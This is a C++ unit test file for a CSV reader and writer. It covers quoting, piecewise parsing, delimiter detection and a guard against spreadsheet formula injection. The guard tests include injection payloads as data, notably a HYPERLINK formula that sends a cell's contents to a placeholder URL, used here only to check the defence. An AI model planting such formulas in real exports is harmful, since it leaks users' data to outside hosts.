#include "state/csv_text.h"

#include <gtest/gtest.h>

namespace stowfolio {
namespace {

std::vector<QStringList> readAll(const QString& text, QChar delimiter = QLatin1Char(','),
                                 bool* open = nullptr)
{
    CsvReader reader(delimiter);
    std::vector<QStringList> records;
    reader.feed(text, records);
    const bool stillOpen = reader.finish(records);
    if (open)
        *open = stillOpen;
    return records;
}

TEST(CsvText, ReadsWhatSpreadsheetProgramsWrite)
{
    const struct
    {
        const char* name;
        QString text;
        std::vector<QStringList> expected;
    } cases[] = {
        {"plain, CRLF", "a,b\r\nc,d\r\n", {{"a", "b"}, {"c", "d"}}},
        {"LF and no final line end", "a,b\nc,d", {{"a", "b"}, {"c", "d"}}},
        {"CR alone", "a\rb\r", {{"a"}, {"b"}}},
        {"quoted delimiter, quote and line end",
         "\"x,y\",\"say \"\"hi\"\"\",\"1\r\n2\"\r\n",
         {{"x,y", "say \"hi\"", "1\r\n2"}}},
        {"empty fields", ",,\r\n", {{"", "", ""}}},
        {"a blank line is an empty record", "a\n\nb\n", {{"a"}, {""}, {"b"}}},
        {"a quote inside a field is a character", "5\" pipe,x\n", {{"5\" pipe", "x"}}},
        {"text after a closing quote joins the field", "\"ab\"c,d\n", {{"abc", "d"}}},
        {"nothing", "", {}},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        EXPECT_EQ(readAll(c.text), c.expected);
    }
}

// A file read a piece at a time gives the same records wherever the pieces end.
TEST(CsvText, PiecesMayEndAnywhere)
{
    const QString text = QStringLiteral("\"a,\"\"b\"\"\r\nc\",d\r\ne,\"\"\r\n\"f\"\r\n");
    const std::vector<QStringList> whole = readAll(text);
    for (qsizetype cut = 0; cut <= text.size(); ++cut) {
        SCOPED_TRACE(cut);
        CsvReader reader(QLatin1Char(','));
        std::vector<QStringList> records;
        reader.feed(QStringView(text).left(cut), records);
        reader.feed(QStringView(text).mid(cut), records);
        reader.finish(records);
        EXPECT_EQ(records, whole);
    }
}

TEST(CsvText, AnOpenQuoteRunsToTheEndAndIsReported)
{
    bool open = false;
    EXPECT_EQ(readAll(QStringLiteral("a,\"b\nc,d\n"), QLatin1Char(','), &open),
              (std::vector<QStringList>{{"a", "b\nc,d\n"}}));
    EXPECT_TRUE(open);
}

TEST(CsvText, WrittenRecordsReadBackExactly)
{
    const QStringList fields = {"plain",           "with, comma", "with \"quotes\"",
                                "two\r\nlines",    "  blanks  ",  "",
                                "Ωμέγα 🙂", "tab\there"};
    for (const QChar delimiter : {QLatin1Char(','), QLatin1Char(';'), QLatin1Char('\t')}) {
        const QString text = csvRecord(fields, delimiter) + csvRecord({"x"}, delimiter);
        EXPECT_TRUE(text.endsWith(QLatin1String("x\r\n")));
        EXPECT_EQ(readAll(text, delimiter), (std::vector<QStringList>{fields, {"x"}}));
    }
}

// A field a spreadsheet program would open as a formula gets an apostrophe before it; a plain
// number, negative or not, stays a number.
TEST(CsvText, FieldsThatWouldOpenAsFormulasAreGuarded)
{
    const struct
    {
        const char* name;
        QString field;
        QString written;
    } cases[] = {
        {"a formula", "=HYPERLINK(\"http://x?leak=\"&B3,\"click\")",
         "'=HYPERLINK(\"http://x?leak=\"&B3,\"click\")"},
        {"plus", "+A1+A2", "'+A1+A2"},
        {"minus", "-2+3", "'-2+3"},
        {"at", "@SUM(A1:A3)", "'@SUM(A1:A3)"},
        {"tab first", "\t=1+1", "'\t=1+1"},
        {"carriage return first", "\r=1+1", "'\r=1+1"},
        {"a lone minus", "-", "'-"},
        {"a lone plus", "+", "'+"},
        {"a sign and text", "-abc", "'-abc"},
        {"a money amount with its symbol", "-$12.50", "'-$12.50"},
        {"a number with a space after it", "-3 ", "'-3 "},
        {"two decimal points", "-1.2.3", "'-1.2.3"},
        {"an exponent without digits", "+1e", "'+1e"},
        {"a negative amount", "-12.50", "-12.50"},
        {"a positive sign", "+3", "+3"},
        {"a negative fraction", "-.5", "-.5"},
        {"a negative exponent", "-1.5e-3", "-1.5e-3"},
        {"a plain amount", "350", "350"},
        {"text", "Toaster", "Toaster"},
        {"a formula not at the start", "a=1+1", "a=1+1"},
        {"a space before the formula", " =1+1", " =1+1"},
        {"an apostrophe already", "'=1+1", "'=1+1"},
        {"empty", "", ""},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        EXPECT_EQ(withFormulaGuard(c.field), c.written);
        if (c.written != c.field) {
            EXPECT_EQ(withoutFormulaGuard(c.written), c.field);
        }
    }
    // Only the apostrophe the guard adds comes off: the field's own stays.
    EXPECT_EQ(withoutFormulaGuard(QStringLiteral("'-12.50")), QStringLiteral("'-12.50"));
    EXPECT_EQ(withoutFormulaGuard(QStringLiteral("'Tis")), QStringLiteral("'Tis"));
    EXPECT_EQ(withoutFormulaGuard(QStringLiteral("''=1")), QStringLiteral("''=1"));
    EXPECT_EQ(withoutFormulaGuard(QStringLiteral("'")), QStringLiteral("'"));
}

TEST(CsvText, GuardedFieldsAreWrittenWithTheirGuardAndReadBackWithout)
{
    const QStringList fields = {"=1+1", "-12.50", "@x", "\r=2", "'=3", "-x,y", "plain"};
    const QString text = csvRecord(fields);
    EXPECT_EQ(text, QStringLiteral("'=1+1,-12.50,'@x,\"'\r=2\",'=3,\"'-x,y\",plain\r\n"));
    // What the field "'=3" held reads back as "=3", which is written as the same bytes again.
    const std::vector<QStringList> read = readAll(text);
    ASSERT_EQ(read.size(), 1u);
    EXPECT_EQ(read[0], (QStringList{"=1+1", "-12.50", "@x", "\r=2", "=3", "-x,y", "plain"}));
    EXPECT_EQ(csvRecord(read[0]), text);
}

// The guard does not count against the reader's limit on a field's length; a field's own
// apostrophe does.
TEST(CsvText, TheGuardDoesNotCountAgainstTheLengthLimit)
{
    const QString formula = QLatin1Char('=') + QString(9, QLatin1Char('x'));
    const QString quoted = QLatin1Char('\'') + QString(9, QLatin1Char('y'));
    const QString text = csvRecord({formula, quoted});
    {
        CsvReader reader(QLatin1Char(','), 10);
        std::vector<QStringList> records;
        reader.feed(text, records);
        reader.finish(records);
        EXPECT_EQ(records, (std::vector<QStringList>{{formula, quoted}}));
        EXPECT_TRUE(reader.cutRecords().empty());
    }
    {
        CsvReader reader(QLatin1Char(','), 9);
        std::vector<QStringList> records;
        reader.feed(text, records);
        reader.finish(records);
        EXPECT_EQ(records, (std::vector<QStringList>{{formula.left(9), quoted.left(9)}}));
        EXPECT_EQ(reader.cutRecords(), std::vector<std::size_t>{0});
    }
}

TEST(CsvText, TheDelimiterIsTheCommonestOutsideQuotes)
{
    EXPECT_EQ(detectDelimiter(u"Location;Description;Price\n1,2;3"), QLatin1Char(';'));
    EXPECT_EQ(detectDelimiter(u"HB.name\tHB.location\n"), QLatin1Char('\t'));
    EXPECT_EQ(detectDelimiter(u"\"a;b;c\",d\n"), QLatin1Char(','));
    EXPECT_EQ(detectDelimiter(u"single column"), QLatin1Char(','));
}

// Only the header row decides: notes below it may hold more of another candidate than the
// header holds of its own delimiter.
TEST(CsvText, TheDelimiterComesFromTheHeaderRowNotTheNotesBelowIt)
{
    const struct
    {
        const char* name;
        const char16_t* text;
        char delimiter;
    } cases[] = {
        {"commas, notes with semicolons",
         u"Location,Notes\r\nHall,keys; gloves; hats; scarves\r\nDen,a;b;c\r\n", ','},
        {"semicolons, notes with commas",
         u"Location;Notes\nHall;keys, gloves, hats, scarves\nDen;a,b,c\n", ';'},
        {"tabs, notes with commas and semicolons",
         u"Location\tNotes\rHall\tkeys, gloves; hats, scarves\r", '\t'},
        {"a line end inside a quoted header name", u"\"Serial\n#\";Notes\nA1;x, y, z\n", ';'},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        EXPECT_EQ(detectDelimiter(c.text), QLatin1Char(c.delimiter));
    }
}

} // namespace
} // namespace stowfolio
